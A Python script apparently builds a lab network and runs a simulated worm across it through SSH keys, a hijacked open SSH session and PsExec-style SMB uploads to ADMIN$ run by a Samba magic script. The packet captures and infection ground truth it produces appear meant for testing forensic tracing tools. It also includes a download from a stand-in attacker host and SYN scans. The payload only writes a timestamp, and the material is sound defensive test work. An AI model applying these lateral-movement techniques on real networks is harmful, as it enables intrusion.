"""A worm goes from host to host by SSH and SMB among administrators, a backup, a scanner and daily work."""

import time
from contextlib import contextmanager

import pcap
import spread
from breakage import stamp
from host import Daemon, think, wait_for
from sandbox import LabError
from services import data, files, infra, web
from spread import Session
from truth import Topology

PACKAGES = ["nginx-light", "curl", "openssh-server", "openssh-client", "samba", "samba-common-bin", "smbclient", "nmap",
            "postgresql", "postgresql-client"]

README = """
ws1 opens a bad document (`patient_zero`). From then on a worm really runs a file on one host after another
(`hops`): by SSH with a key, through an SSH session that was open before, and by SMB as PsExec does it (a file into
ADMIN$, a session with the service manager through the pipe svcctl, another file, which Samba runs as its magic script;
the service manager's StartService itself is refused; the connections, one after another, are one session here).

    ws1 > files1 (smb) > ws2 (smb) > hr1 (ssh) > pay1 (ssh)
    ws1 > jump (ssh) > app1 (ssh) > db1 (ssh)
                jump > web1 (ssh, opened before jump was hit)

- `forward`: whom the worm could have reached, by earliest arrival over sessions that let their origin run something
  (SSH; SMB with ADMIN$ or svcctl). A session counts as an interval: it may be used until it ends. log1 was never hit,
  but app1's session with it was open; arch1 follows from log1.
- `static_only`: whom a search without time claims as well, and why time says no.
- `data_only`: asked by infected hosts for pages, files or rows, nothing more. `knocked`: only scanned by ws1.
- `backward`: three victims, when each was noticed, and for every candidate whom it explains; only ws1 explains all.
- `sessions`: every SSH session and every SMB session that can run something, from the lab's own log (the processes'
  start and end, some milliseconds around the first and last packet). `forward`, `static_only` and `backward` are
  computed from it by trying every path, and must agree with what the scenario says by hand.

Around it: administrators' sessions before and after, a backup host that pulls from everybody by SSH after all was
noticed, a scanner (SYN only), web pages, file reads over SMB, SQL.

What it proves: tracing forward and backward in time; sessions as intervals; SMB that reads told from SMB that acts.
"""

HOSTS = {"ws1": 11, "ws2": 12, "ws3": 13, "admin1": 14, "scanner": 15, "backup": 16, "files1": 21, "files2": 22,
         "jump": 23, "app1": 24, "db1": 25, "web1": 26, "hr1": 27, "pay1": 28, "log1": 29, "arch1": 30, "old1": 31,
         "hist1": 32, "deep1": 33, "dmz1": 34, "erp": 35, "sql": 36, "spare1": 37}
WITHOUT_SSH = {"scanner", "backup", "admin1", "erp", "sql"}
BAD = "203.0.113.66"
ADMIN_SHARE = """[ADMIN$]
  path = /tmp/admin
  read only = no
  valid users = root
  magic script = update.sh
"""
EVIL = "date +%s.%N > /tmp/infected"
HOPS = [("ws1", "files1", "smb"), ("ws1", "jump", "ssh"), ("files1", "ws2", "smb"), ("jump", "app1", "ssh"),
        ("jump", "web1", "ssh"), ("ws2", "hr1", "ssh"), ("app1", "db1", "ssh"), ("hr1", "pay1", "ssh")]
# By hand; the brute force over the log must say the same.
FORWARD = {"files1", "jump", "ws2", "app1", "web1", "hr1", "db1", "pay1", "log1", "arch1"}
STATIC_ONLY = {
    "hist1": "ws1's session with it ended before ws1 was hit",
    "old1": "jump's session with it ended before jump was hit, though after ws1 was",
    "deep1": "reached from old1 only, later",
    "dmz1": "db1's session with it ended before db1 was hit",
    "files2": "ws2's session with its service manager ended before ws2 was hit; since then ws2 only reads files"}
DATA_ONLY = {"files2", "erp", "sql"}
VICTIMS = ["db1", "pay1", "web1"]
MARGIN = 0.5        # seconds between an infection and the nearest first or last packet that decides about it


class Script:
    """Runs sessions and keeps the log of them."""

    def __init__(self, lab):
        self.hosts = lab.network.hosts
        self.log: list[Session] = []
        self.hits: dict[str, float] = {}
        self.hop_sessions: list[Session] = []

    @contextmanager
    def noted(self, origin: str, target: str, protocol: str, about: str):
        entry = Session(origin, target, protocol, time.time(), 0.0, about)
        self.log.append(entry)
        yield entry
        entry.last = time.time()

    def ssh(self, origin: str, target: str, about: str, command: str = "uname -n", pause: float = 1.0) -> Session:
        with self.noted(origin, target, "ssh", about) as entry:
            self.hosts[origin].run(ssh(self.hosts[target].address, f"{command}; sleep {pause}"))
        return entry

    def open_ssh(self, origin: str, target: str, about: str, command: list[str]) -> tuple[Session, Daemon]:
        entry = Session(origin, target, "ssh", time.time(), 0.0, about)
        self.log.append(entry)
        return entry, self.hosts[origin].start(f"ssh-{target}", command)

    def smb(self, origin: str, target: str, about: str, acts: bool) -> Session:
        """As PsExec does it, several connections in a row; one that acts has something run at its end."""
        host, server = self.hosts[origin], self.hosts[target]
        share = ["smbclient", f"//{server.address}/ADMIN$", "-m", "SMB3_11", *CLIENT, "-c"]
        with self.noted(origin, target, "smb", about) as entry:
            host.run([*share, "put /tmp/update.dat update.dat"])
            host.run(["net", "rpc", "service", "list", "-I", server.address, *CLIENT])
            if acts:
                host.run(["net", "rpc", "service", "start", "updater", "-I", server.address, *CLIENT], check=False)
                host.run([*share, "put /tmp/update.sh update.sh"])
        return entry

    def hop(self, origin: str, target: str, protocol: str, open_session: Session | None = None) -> None:
        if origin not in self.hits:
            raise LabError(f"the worm is not on {origin}")
        address = self.hosts[target].address
        if open_session:
            self.hosts[origin].run(["ssh", "-S", "/tmp/mux", "-F", "/dev/null", f"operator1@{address}", EVIL])
            entry = open_session
        elif protocol == "ssh":
            entry = self.ssh(origin, target, "worm", EVIL, 0.5)
        else:
            entry = self.smb(origin, target, "worm", acts=True)
        wait_for(f"the worm on {target}", lambda: self.infected(target))
        self.hop_sessions.append(entry)

    def infected(self, host: str) -> bool:
        try:
            self.hits[host] = float(self.hosts[host].read("/tmp/infected"))
        except (FileNotFoundError, ValueError):
            return False
        return True


SYN_SCAN = ["nmap", "-n", "-Pn", "-sS", "-T4", "--max-retries", "0"]
CLIENT = ["-s", "/opt/lab/client.conf", "-U", "root%labpw"]


def ssh(address: str, command: str, *options: str) -> list[str]:
    return ["ssh", "-F", "/dev/null", "-i", "/opt/lab/fleet", "-o", "StrictHostKeyChecking=no", "-o",
            "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", *options, f"operator1@{address}",
            *([command] if command else [])]


# ---- the network ---------------------------------------------------------------------------------

def wires(lab) -> None:
    net = lab.network
    net.bridge("floor")
    net.bridge("internet")
    net.router("gw", {"floor": "10.91.0.1/24", "internet": "203.0.113.1/24"})
    for name, number in HOSTS.items():
        net.host(name, "floor", f"10.91.0.{number}/24", names=[name], gateway="10.91.0.1")
    net.host("outside", "internet", f"{BAD}/24", gateway="203.0.113.1")
    net.boot()
    (lab.scratch / "client.conf").write_text("[global]\n  disable netbios = yes\n")


def servers(lab) -> None:
    hosts = lab.network.hosts
    hosts["admin1"].shell("ssh-keygen -q -t ed25519 -N '' -C fleet -f /opt/lab/fleet; chmod 644 /opt/lab/fleet.pub")
    for name in HOSTS.keys() - WITHOUT_SSH:
        infra.sshd(hosts[name], 22, options=["AuthorizedKeysFile=/opt/lab/fleet.pub", "StrictModes=no"])
    for name in ("files1", "files2", "ws2"):
        files.smbd(hosts[name], name.upper(), ADMIN_SHARE)
    page = "  server { listen 80; location / { return 200 \"a page of some length\\n\"; } }\n"
    web.nginx(hosts["erp"], page, [80])
    web.nginx(hosts["outside"], page, [80])
    data.postgresql(hosts["sql"], 5432, "create table product (id int primary key, name text);"
                    "insert into product values (1, 'a thing');")
    for name in ("ws1", "ws2", "files1"):       # what the worm brings along, and ws2's administrator
        hosts[name].shell(f"printf '#!/bin/sh\\n{EVIL.replace('%', '%%')}\\n' > /tmp/update.sh; "
                          "head -c 3000 /dev/urandom > /tmp/update.dat")


def daily_work(hosts) -> list[Daemon]:
    """Pages, file reads and queries that go on all the time."""
    loops = {name: f"while :; do curl -s -o /dev/null http://10.91.0.35/; sleep {pause}; smbclient "
             f"//10.91.0.{server}/share -m SMB3_11 -s /opt/lab/client.conf -U alice%labpw "
             f"-c 'get report.txt /dev/null' >/dev/null 2>&1; sleep {pause}; done"
             for name, server, pause in (("ws1", 21, 3.1), ("ws2", 22, 2.7), ("ws3", 21, 3.7))}
    loops["app1"] = "while :; do PGPASSWORD=labpw psql -At 'host=10.91.0.36 dbname=shop user=shop sslmode=disable " \
                    "gssencmode=disable' -c 'select name from product' >/dev/null; sleep 2; done"
    return [hosts[name].start("work", ["bash", "-c", loop]) for name, loop in loops.items()]


# ---- the story -----------------------------------------------------------------------------------

def before(script: Script) -> None:
    script.ssh("admin1", "jump", "administration", "uptime", 2)
    script.ssh("admin1", "app1", "administration")
    script.ssh("admin1", "web1", "administration")
    script.ssh("ws1", "hist1", "work, ended before ws1 was hit", "ls", 2)
    script.ssh("db1", "dmz1", "work, ended before db1 was hit", "ls", 2)
    script.smb("ws2", "files2", "administration, ended before ws2 was hit", acts=False)


def worm(script: Script) -> list[tuple[Session, Daemon]]:
    hosts = script.hosts
    web1, log1 = hosts["web1"].address, hosts["log1"].address
    opened = [script.open_ssh("jump", "web1", "work, open before jump was hit; the worm uses it",
                              ssh(web1, "", "-M", "-S", "/tmp/mux", "-N")),
              script.open_ssh("app1", "log1", "work, open before app1 was hit; the worm does not use it",
                              ssh(log1, "while :; do date; sleep 2; done"))]
    think(3)
    hosts["ws1"].run(["curl", "-sSf", "-o", "/tmp/invoice", f"http://{BAD}/invoice.doc"])
    hosts["ws1"].shell(EVIL)
    script.infected("ws1")
    think(2)
    script.ssh("jump", "old1", "work, ended before jump was hit", "ls", 1)
    hosts["ws1"].run([*SYN_SCAN, "-p", "22,445", "10.91.0.21", "10.91.0.23", "10.91.0.37"])
    for origin, target, protocol in HOPS:
        think(2.5)
        script.hop(origin, target, protocol, opened[0][0] if (origin, target) == ("jump", "web1") else None)
        if target == "app1":
            think(2)
            script.ssh("log1", "arch1", "logs are shipped, after app1 was hit", "cat > /dev/null", 1)
    return opened


def after(script: Script) -> None:
    hosts = script.hosts
    think(2)
    hosts["scanner"].run([*SYN_SCAN, "-p", "22,80,135,443,445,3389,8080",
                          *(f"10.91.0.{HOSTS[name]}" for name in HOSTS if name != "scanner")], limit=40)
    script.ssh("old1", "deep1", "work")
    script.ssh("admin1", "db1", "administration, after it was hit")
    script.ssh("ws3", "hr1", "administration, after it was hit")
    for name in sorted(HOSTS.keys() - WITHOUT_SSH):
        script.ssh("backup", name, "backup, after everything", "tar -C /etc -cf - hostname hosts passwd", 0.1)


# ---- truth ---------------------------------------------------------------------------------------

def infection(script: Script, noticed: dict[str, float]) -> dict:
    """The truth by brute force over the log; refuses to be written if it is not what the story says."""
    address = {name: host.address for name, host in script.hosts.items()}
    zero, moment = "ws1", script.hits["ws1"]
    reached = spread.forward(script.log, zero, moment)
    static = spread.static_reach(script.log, zero)
    back = {victim: spread.backward(script.log, victim, noticed[victim]) for victim in VICTIMS}
    explained = {host: [victim for victim in VICTIMS if host in back[victim]]
                 for host in sorted({host for found in back.values() for host in found})}
    complete = [host for host, victims in explained.items() if victims == VICTIMS]
    close = spread.narrow(script.log, {zero: moment, **{host: at for host, (at, _) in reached.items()}}, MARGIN)
    late = [f"{host} by its path, {script.hits[host]}" for host in reached
            if host in script.hits and script.hits[host] < reached[host][0]]
    wrong = [text for text, bad in (
        (f"reached {sorted(reached)}", set(reached) != FORWARD), (f"static only {static - set(reached)}",
                                                                   static - set(reached) != set(STATIC_ONLY)),
        (f"all victims explained by {complete}", complete != [zero]), (f"too close to call: {close}", close),
        (f"hit before they could be reached: {late}", late)) if bad]
    if wrong:
        raise LabError("the log of sessions does not tell the story: " + "; ".join(wrong))
    hops = [{"from": address[one.origin], "to": address[one.target], "protocol": one.protocol,
             "first": stamp(one.first), "last": stamp(one.last), "infected_at": stamp(script.hits[one.target])}
            for one in script.hop_sessions]
    return {
        "patient_zero": {"host": address[zero], "name": zero, "infected_at": stamp(moment)},
        "hops": hops,
        "forward": [{"host": address[host], "name": host, "earliest_arrival": stamp(at),
                     "path": [address[zero], *(address[one.target] for one in path)],
                     "infected_at": stamp(script.hits[host]) if host in script.hits else None}
                    for host, (at, path) in sorted(reached.items(), key=lambda item: item[1][0])],
        "static_only": [{"host": address[host], "name": host, "why": why} for host, why in STATIC_ONLY.items()],
        "data_only": sorted(address[host] for host in DATA_ONLY),
        "knocked": [address["spare1"]],
        "backward": {"victims": [{"host": address[name], "name": name, "noticed_at": stamp(noticed[name])}
                                 for name in VICTIMS],
                     "patient_zero": address[zero],
                     "candidates": [{"host": address[host], "name": host, "explains": [address[v] for v in victims],
                                     "latest": {address[v]: stamp(back[v][host]) for v in victims}}
                                    for host, victims in explained.items()]},
        "sessions": [{"from": address[one.origin], "to": address[one.target], "protocol": one.protocol,
                      "first": stamp(one.first), "last": stamp(one.last), "about": one.about}
                     for one in sorted(script.log, key=lambda one: one.first)]}


def declare(net, log: list[Session]) -> Topology:
    truth = Topology()
    truth.add_hosts(net)
    shells: dict[tuple[str, str], int] = {}
    for one in log:
        shells[one.origin, one.target] = shells.get((one.origin, one.target), 0) + (one.protocol == "ssh")
    knocks = {("ws1", "jump"): 1}       # answered by the same port before the session
    for (origin, target), count in shells.items():
        if count:
            truth.depends(origin, target, 22, "ssh", connections=count + knocks.get((origin, target), 0))
    for client, server in (("ws1", "files1"), ("ws2", "files2"), ("ws3", "files1"), ("files1", "ws2")):
        truth.depends(client, server, 445, "smb")
    for client in ("ws1", "ws2", "ws3"):
        truth.depends(client, "erp", 80, "http")
    truth.depends("ws1", BAD, 80, "http", connections=1)
    truth.depends("app1", "sql", 5432, "postgresql")
    seen_open = {(name, 22) for name in HOSTS.keys() - WITHOUT_SSH} | {("erp", 80)} | {
        (name, 445) for name in ("files1", "files2", "ws2")}
    for name, port in sorted(seen_open):
        truth.depends("scanner", name, port, "unknown", kind="scan", state="answered", connections=1)
    for name, port in (("files1", 22), ("spare1", 22)):
        truth.depends("ws1", name, port, "unknown", state="answered", connections=1)
    truth.attempted("ws1", None, "SYN scan", ["10.91.0.21", "10.91.0.23", "10.91.0.37"], [22, 445])
    truth.attempted("scanner", None, "SYN scan", [net.hosts[name].address for name in HOSTS if name != "scanner"],
                    [22, 80, 135, 443, 445, 3389, 8080])
    return truth


def run(lab) -> None:
    wires(lab)
    servers(lab)
    net, hosts = lab.network, lab.network.hosts
    tap = net.tap("floor", "worm.pcap")
    script = Script(lab)
    work = daily_work(hosts)
    before(script)
    opened = worm(script)
    think(1)
    noticed = {name: time.time() for name in VICTIMS}
    after(script)
    for entry, daemon in opened:
        daemon.stop()
        entry.last = time.time()
    for daemon in work:
        daemon.stop()
    frames = pcap.read(tap.stop())
    lab.deliver("worm", frames, declare(net, script.log), README, {"infection.json": infection(script, noticed)})
